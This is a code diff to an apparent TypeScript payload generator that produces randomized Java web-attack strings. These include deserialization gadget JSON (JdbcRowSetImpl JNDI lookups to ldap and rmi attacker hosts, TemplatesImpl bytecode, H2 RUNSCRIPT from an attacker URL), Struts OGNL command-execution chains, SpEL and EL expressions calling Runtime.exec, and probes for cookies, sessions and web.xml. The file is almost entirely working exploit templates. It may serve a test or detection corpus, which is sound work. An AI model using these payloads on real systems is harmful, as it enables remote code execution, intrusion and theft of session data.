@@ -22,6 +22,13 @@ const EXEC_CHAINS = [
   (c: string) => `java.lang.System.getProperty("user.dir")+"${c}"`,
 ];
 
+/** The start of a Java class file (magic, version, a constant pool), base64'd: a TemplatesImpl gadget's bytecode. */
+function classFileBase64(random: Random): string {
+  const body = Buffer.alloc(int(random, 12, 40));
+  for (let i = 0; i < body.length; i++) body[i] = int(random, 0, 255);
+  return Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, pick([0x32, 0x33, 0x34, 0x37], random), 0x00, int(random, 16, 90)]), body]).toString('base64');
+}
+
 function jvmReflection(random: Random): string {
   const c = javaCommand(random);
   switch (int(random, 0, 5)) {
@@ -32,13 +39,15 @@ function jvmReflection(random: Random): string {
       return JSON.stringify(pick([
         ['com.sun.rowset.JdbcRowSetImpl', { dataSourceName: `ldap://${attackerHost(random)}:1389/Exploit`, autoCommit: true }],
         { '@type': 'com.sun.rowset.JdbcRowSetImpl', dataSourceName: `rmi://${attackerIp(random)}:1099/Obj`, autoCommit: true },
-        { '@type': 'java.lang.AutoCloseable', '@type2': 'org.apache.commons.io.input.BOMInputStream' },
-        { '@type': 'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl', _bytecodes: [base64('yv66vgAAADQA')], _name: 'a', _tfactory: {} },
+        { '@type': 'java.lang.AutoCloseable', '@type2': pick(['org.apache.commons.io.input.BOMInputStream', 'org.apache.commons.io.input.XmlStreamReader', 'java.io.FileOutputStream', 'org.eclipse.core.internal.localstore.SafeFileOutputStream'], random), ...(random() < 0.5 ? { file: pick(['/tmp/x', '/etc/passwd', 'C:/Windows/win.ini'], random) } : {}) },
+        { '@type': 'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl', _bytecodes: [classFileBase64(random)], _name: pick(['a', 'x', 'Pwn', `E${int(random, 0, 999)}`], random), _tfactory: {}, ...(random() < 0.5 ? { _outputProperties: {} } : {}) },
         ['org.springframework.context.support.ClassPathXmlApplicationContext', `${attackerUrl(random)}spel.xml`],
         { '@class': 'ch.qos.logback.core.db.DriverManagerConnectionSource', url: `jdbc:h2:mem:;INIT=RUNSCRIPT FROM '${attackerUrl(random)}x.sql'` },
       ], random));
-    case 3:
-      return pick([
+    case 3: {
+      // A bare gadget class name, as a type field, a JVM descriptor or a reflective lookup writes it.
+      const [open, close] = pick([['', ''], ['', ''], ['L', ';'], ['Class.forName("', '")'], ['x=', '']] as const, random);
+      return open + pick([
         'org.apache.commons.collections.functors.InvokerTransformer',
         'org.apache.commons.collections4.functors.InstantiateTransformer',
         'org.codehaus.groovy.runtime.MethodClosure',
@@ -48,7 +57,8 @@ function jvmReflection(random: Random): string {
         'javax.management.BadAttributeValueExpException',
         'sun.reflect.annotation.AnnotationInvocationHandler',
         'org.hibernate.jmx.StatisticsService',
-      ], random) + maybe(random, 0.5, `#${pick(['transform', 'exec', 'newTransformer', 'getObject'], random)}`);
+      ], random).replace(/\./g, open === 'L' ? '/' : '.') + close + maybe(random, 0.5, `#${pick(['transform', 'exec', 'newTransformer', 'getObject'], random)}`);
+    }
     case 4:
       return `${pick(['class', 'Class', 'x'], random)}.${pick(['module.classLoader.resources.context.parent.pipeline.first.pattern', 'classLoader.URLs[0]', 'module.classLoader.DefaultAssertionStatus', 'forName("java.lang.Runtime")'], random)}=${pick(['%{c2}i', 'jar:' + attackerUrl(random) + 'x.jar!/', 'true', 'x'], random)}`;
     default:
@@ -65,10 +75,11 @@ function ognl(random: Random): string {
     "(#context['xwork.MethodAccessor.denyMethodExecution']=false)",
     '(#context.setMemberAccess(@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS))',
   ], random);
+  const w = pick(['w', 'o', 'r', 'out'], random);
   const exec = pick([
     `(@java.lang.Runtime@getRuntime().exec('${c}'))`,
     `(#cmd='${c}').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())`,
-    `(#w=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse').getWriter()).(#w.print(@java.lang.System@getProperty('user.dir'))).(#w.close())`,
+    `(#${w}=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse').getWriter()).(#${w}.print(@java.lang.System@getProperty('${pick(['user.dir', 'user.name', 'os.name', 'java.version', 'user.home'], random)}'))).(#${w}.close())`,
     `(@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('${c}').getInputStream()))`,
   ], random);
   const body = `${access}.${exec}`;
@@ -87,7 +98,9 @@ function ognl(random: Random): string {
 }
 
 function expressionLanguage(random: Random): string {
-  const c = javaCommand(random);
+  // Any recon or payload command, not only the eight javaCommand knows: a fixed list made each
+  // expression with it come back 5-9 times per 300 draws.
+  const c = random() < 0.6 ? unixCommand(random) : javaCommand(random);
   const chain = pick(EXEC_CHAINS, random)(c);
   switch (int(random, 0, 7)) {
     case 0:
@@ -96,14 +109,27 @@ function expressionLanguage(random: Random): string {
       return `${pick(['#', '*', '$', '@'], random)}{T(${pick(['java.lang.Runtime', 'java.lang.System', 'org.springframework.util.StreamUtils', 'java.lang.ProcessBuilder'], random)})${pick([`.getRuntime().exec("${c}")`, '.getenv()', `.copyToByteArray(T(java.lang.Runtime).getRuntime().exec("${c}").getInputStream())`, '.getProperty("user.home")'], random)}}`;
     case 2:
       return `\${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'${c}')}`;
-    case 3:
-      return `\${${pick(['pageContext.request.getSession().setAttribute("a",1)', 'applicationScope', 'sessionScope', 'header["cookie"]', 'pageContext.servletContext.getResource("/")', 'initParam'], random)}}`;
+    case 3: {
+      // A bare scope or implicit-object lookup: the probe that shows an expression is evaluated.
+      const attr = pick(['user', 'admin', 'token', 'role', 'a', 'x', 'secret', 'csrf', `k${int(random, 0, 99)}`], random);
+      return `\${${pick([
+        `pageContext.request.getSession().setAttribute("${attr}",${pick(['1', 'true', `"${attr}"`], random)})`,
+        pick(['applicationScope', 'sessionScope', 'requestScope'], random) + pick(['', `.${attr}`, `['${attr}']`], random),
+        `${pick(['header', 'cookie', 'param', 'headerValues'], random)}[${pick(['"', "'"], random)}${pick(['cookie', 'Authorization', 'JSESSIONID', 'User-Agent', attr], random)}${pick(['"', "'"], random)}]${maybe(random, 0.3, '.value')}`,
+        `pageContext.servletContext.${pick(['getResource', 'getRealPath', 'getResourcePaths'], random)}("${pick(['/', '/WEB-INF/web.xml', '/WEB-INF/', '.'], random)}")`,
+        `${pick(['initParam', 'pageContext.servletContext.serverInfo', 'pageContext.request.serverName'], random)}`,
+      ], random)}}`;
+    }
     case 4:
-      return `#{${pick(['request.getClass().getClassLoader()', 'facesContext.externalContext.sessionMap', `"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval("${chain.replace(/"/g, "'")}")`], random)}}`;
+      return `#{${pick([
+        `${pick(['request', 'session', 'application', 'facesContext'], random)}.getClass()${pick(['.getClassLoader()', '.getProtectionDomain()', '.forName("java.lang.Runtime")'], random)}`,
+        `facesContext.externalContext.${pick(['sessionMap', 'requestMap', 'applicationMap', 'requestParameterMap', 'requestHeaderMap', 'requestCookieMap', 'initParameterMap'], random)}${maybe(random, 0.7, `['${pick(['user', 'a', 'token', 'role', 'cookie', 'x', 'admin', `p${int(random, 0, 99)}`], random)}']`)}`,
+        `"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("${pick(['js', 'JavaScript', 'nashorn'], random)}").eval("${chain.replace(/"/g, "'")}")`,
+      ], random)}}`;
     case 5:
       return `@{${chain}}`;
     case 6:
-      return `${pick(['', 'x'], random)}\${${pick(['new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("' + c + '").getInputStream()).next()', '#this.getClass().forName("java.lang.Runtime")', '(new java.lang.ProcessBuilder(new String[]{"' + c + '"})).start()'], random)}}`;
+      return `${pick(['', 'x'], random)}\${${pick(['new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("' + c + '").getInputStream()).next()', `#this.getClass().forName("${pick(['java.lang.Runtime', 'java.lang.ProcessBuilder', 'java.lang.System', 'javax.script.ScriptEngineManager'], random)}")`, '(new java.lang.ProcessBuilder(new String[]{"' + c + '"})).start()'], random)}}`;
     default:
       return `${pick(['orderBy', 'sort', 'x'], random)}=${pick(['T(java.lang.Runtime).getRuntime().exec("' + c + '")', 'new java.lang.ProcessBuilder("' + c + '").start()'], random)}`;
   }
